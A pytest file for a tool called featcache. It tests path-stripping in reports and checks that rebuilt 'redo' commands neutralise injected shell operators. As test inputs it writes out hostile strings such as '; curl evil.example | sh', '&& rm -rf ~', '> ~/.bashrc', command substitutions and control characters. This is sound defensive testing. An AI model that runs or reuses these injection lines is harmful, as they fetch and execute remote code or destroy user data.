"""Absolute paths stay in origin.json, and commands of strangers do no more than they say."""

from __future__ import annotations

import shlex

import pytest

from featcache.reporting.places import split_places, without_place, without_places
from featcache.reporting.refit_command import redo_command
from featcache.reporting.schema import run_of

from .test_refit_command import FACTS


@pytest.mark.parametrize(
    ("word", "short"),
    [
        ("/home/me/photos", "photos"), ("/home/me/photos/", "photos"), ("/", "."),
        ("csv:/home/me/list.csv", "csv:list.csv"), ("--data=/home/me/x y", "--data=x y"),
        ("series:/a/b.csv:method=mtf", "series:b.csv:method=mtf"), ("C:\\Users\\me\\x", "x"),
        ("file:///home/me/x", "file:x"), ("\\\\host\\share\\x", "x"), ("photos/cat", "photos/cat"),
        ("s3://bucket/photos", "s3://bucket/photos"), ("--data", "--data"), ("a=b/c", "a=b/c"),
        ("torchvision:CIFAR10", "torchvision:CIFAR10"), ("../x", "../x"), ("", ""),
    ],
)  # fmt: skip
def test_of_an_absolute_path_the_last_part_stays(word: str, short: str) -> None:
    assert without_place(word) == short


def test_in_a_sentence_too() -> None:
    text = "2 pairs: /home/me/a.png = b/c.png, (/home/me/d.png), 3/4 of 's3://x/y'"
    assert without_places(text) == "2 pairs: a.png = b/c.png, (d.png), 3/4 of 's3://x/y'"


def test_facts_without_absolute_paths_are_kept_as_they_are() -> None:
    facts = {
        "opened": ["--data", "photos"],
        "cache": "c",
        "command": "featcache run a.yaml",
        "x": 1,
    }
    assert split_places(facts) == (facts, {})


@pytest.mark.parametrize("odd", [3, {"a": "/home/me"}, ["--data", 3, None], None, True])
def test_facts_of_another_kind_are_left(odd: object) -> None:
    assert split_places({"opened": odd}) == ({"opened": odd}, {})


def test_python_has_its_texts_shortened() -> None:
    shown, origin = split_places({"command": "import x\nx.Cache('/home/me/cache', 'a/b')"})
    assert shown == {"command": "import x\nx.Cache('cache', 'a/b')"}
    assert "/home/me" in origin["command"]


def redo(command: str) -> str:
    from pathlib import Path

    scores = {"mean": {}, "sd": {}, "interval": [0.0, 1.0]}
    return redo_command(run_of(Path("elsewhere"), {**FACTS, "command": command}, scores))


@pytest.mark.parametrize(
    "command",
    ["featcache finetune --data 'my photos' --epochs 8", "featcache run a.yaml --finetune"],
)
def test_a_command_of_ours_is_shown_as_it_is(command: str) -> None:
    assert redo(command) == command


@pytest.mark.parametrize(
    "more", ["; curl evil.example | sh", "&& rm -rf ~", "$(touch x)", "`touch x`", "> ~/.bashrc"]
)
def test_nothing_else_is_run_by_a_command_of_a_stranger(more: str) -> None:
    words = shlex.split(redo(f"featcache finetune --data x {more}"), comments=True)
    line = redo(f"featcache finetune --data x {more}")
    assert shlex.join(words) == line  # each word quoted: no operator, no expansion
    assert words[:2] == ["featcache", "finetune"]


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh", "featcache cache prune --all", "featcache x\x1b[2K",
        "rm 'open quote", "featcache fit \u202e x",
    ],
)  # fmt: skip
def test_other_commands_give_way_to_the_typed_fields(command: str) -> None:
    assert redo(command).startswith("featcache fit --name 'my photos'")


def test_python_comes_with_a_warning() -> None:
    assert redo("import os\nos.getcwd()").startswith("# From run.json, whoever wrote it: read")
